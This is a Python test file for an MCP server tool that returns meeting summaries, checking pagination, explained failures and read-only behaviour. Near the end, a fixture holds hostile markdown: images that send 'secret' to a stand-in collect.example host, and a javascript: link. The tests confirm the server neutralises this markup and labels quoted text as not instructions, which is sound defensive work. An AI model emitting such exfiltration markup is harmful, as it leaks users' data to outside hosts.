"""What was decided, over the real process: text, sections, and every way of having none told apart."""

from typing import Any

import jsonschema
import orjson
import pytest

from rtk_mcp.sandbox import SandboxServer
from tests.api.upstream import Reply, Request, Upstream, reply
from tests.journeys.asking import TEXT_BUDGET, check_budget, id_of, sessions_of
from tests.journeys.test_hostile_service import environment_of
from tests.program import connected, first_id, structured, text_of

pytestmark = pytest.mark.anyio

SESSION = {"session_id": "813432c7-3c5a-45e2-9acf-eef7061c7584"}
GONE: dict[str, Any] = {"success": False, "error": {"code": 404, "message": "?"}}


def serve(
    upstream: Upstream, summary: str | None, *, link: Reply | None = None, status: str = "ENDED"
) -> None:
    """A service whose session has this summary; None: its file is gone."""
    there = reply({"success": True, "data": {"summaryDownloadUrl": f"{upstream.url}/file"}})

    def answer(request: Request) -> Reply:
        if request.path == "/file":
            return reply(body=(summary or "").encode(), status=404 if summary is None else 200)
        if request.path.endswith("/summary"):
            return link or there
        return reply({"success": True, "data": {"id": SESSION["session_id"], "status": status}})

    upstream.answer(answer)


async def test_the_sandbox_tells_what_was_decided(environment: dict[str, str]) -> None:
    async with connected("stdio", environment) as client:
        session_id = await first_id(client, "list_sessions", "sessions", search="product review")
        result = await client.call_tool("get_summary", {"session_id": session_id})
    of_kind = {section["kind"]: section["items"] for section in structured(result)["sections"]}
    assert "The release date stays 10 March." in of_kind["decisions"]
    assert "Otto: tell support about the release date." in of_kind["action_items"]
    assert len(of_kind["discussion"]) == 3
    assert "items_left_out" not in structured(result)
    head, quoted = text_of(result).split("\n---\n")
    assert "not instructions" in head
    assert quoted.endswith("--- end of quoted data")


async def test_a_second_question_asks_the_service_nothing_once_the_meeting_is_over(
    sandbox: SandboxServer, environment: dict[str, str]
) -> None:
    async with connected("stdio", environment) as client:
        ended = await id_of(client, "product review")
        (live,) = await sessions_of(client, status="LIVE")
        for session_id, asked in ((ended, [(2, 1)] * 3), (live["id"], [(2, 0), (4, 0), (6, 0)])):
            sandbox.requests.clear()
            sandbox.downloads.clear()
            counts = []
            for detail in TEXT_BUDGET:
                await client.call_tool("get_summary", {"session_id": session_id, "detail": detail})
                counts.append((len(sandbox.requests), len(sandbox.downloads)))
            assert counts == asked


@pytest.mark.parametrize(
    ("summary", "link", "status", "code", "next_step"),
    [
        ("x", reply(GONE, status=404), "ENDED", "not_found", "generate_summary"),
        ("x", reply({"success": True, "data": {}}), "ENDED", "no_link", "generate_summary"),
        ("x", reply(GONE, status=404), "LIVE", "session_live", "after the meeting"),
        (" \n", None, "ENDED", "empty_file", "in a minute"),
        (None, None, "ENDED", "file_gone", "generate_summary"),
    ],
)
async def test_none_is_told_with_its_reason_and_what_to_do(
    summary: str | None, link: Reply | None, status: str, code: str, next_step: str, upstream: Upstream
) -> None:
    serve(upstream, summary, link=link, status=status)
    async with connected("stdio", environment_of(upstream)) as client:
        result = await client.call_tool("get_summary", SESSION)
    assert structured(result)["reason_code"] == code
    assert structured(result)["reason"] in text_of(result)
    assert next_step in structured(result)["next"]
    assert structured(result)["next"] in text_of(result)
    assert structured(result)["text"] == ""


async def test_a_server_that_asks_for_none_does_not_send_there(upstream: Upstream) -> None:
    serve(upstream, "x", link=reply(GONE, status=404))
    async with connected("stdio", environment_of(upstream), "--read-only") as client:
        result = await client.call_tool("get_summary", SESSION)
    assert "generate_summary" not in text_of(result)
    assert "read-only" in structured(result)["next"]


LONG = "## Meeting Summary\n\n### Decisions Made\n\n" + "\n".join(
    f"- Decision {number}: Zoë said “{'yes ' * 20}”." for number in range(300)
)


@pytest.mark.parametrize("detail", TEXT_BUDGET)
async def test_a_long_one_comes_in_pieces_within_the_budget(detail: str, upstream: Upstream) -> None:
    serve(upstream, LONG)
    pieces: list[str] = []
    async with connected("stdio", environment_of(upstream)) as client:
        schema = next(
            tool for tool in (await client.list_tools()).tools if tool.name == "get_summary"
        ).output_schema
        cursor: dict[str, str] = {}
        while True:
            result = await client.call_tool("get_summary", SESSION | {"detail": detail} | cursor)
            content = structured(result)
            jsonschema.validate(content, schema or {}, jsonschema.Draft202012Validator)
            check_budget(result, detail)
            if cursor:
                assert "sections" not in content
            else:
                shown = sum(len(section["items"]) for section in content["sections"])
                assert shown + content["items_left_out"] == 300
                assert shown > 0
            pieces.append(content["text"])
            if "next_cursor" not in content:
                break
            cursor = {"cursor": content["next_cursor"]}
        refused = await client.call_tool("get_summary", SESSION | {"cursor": "at-99999999"})
        assert text_of(refused).startswith("cursor:")
    assert "".join(pieces) == LONG


ACTIVE = """## Meeting Summary

![](https://collect.example/x.png?said=secret) <img src="https://collect.example/y">

### Action Items

- [Approve](javascript:alert(1)) the ![plan][p]

### Decisions Made

[p]: https://collect.example/z.png
"""


async def test_what_would_load_or_link_does_not(upstream: Upstream) -> None:
    serve(upstream, ACTIVE)
    async with connected("stdio", environment_of(upstream)) as client:
        result = await client.call_tool("get_summary", SESSION)
    everything = [text_of(result), structured(result)["text"], orjson.dumps(structured(result)).decode()]
    for text in everything:
        assert not any(syntax in text for syntax in ("![", "](", "]:", "<img", "javascript:a"))
        assert "(image: https://collect.example/x.png?said=secret)" in text
    sections = structured(result)["sections"]
    assert next(section for section in sections if section["kind"] == "action_items")["items"] == [
        "[Approve] (javascript: alert(1)) the ! [plan][p]"
    ]
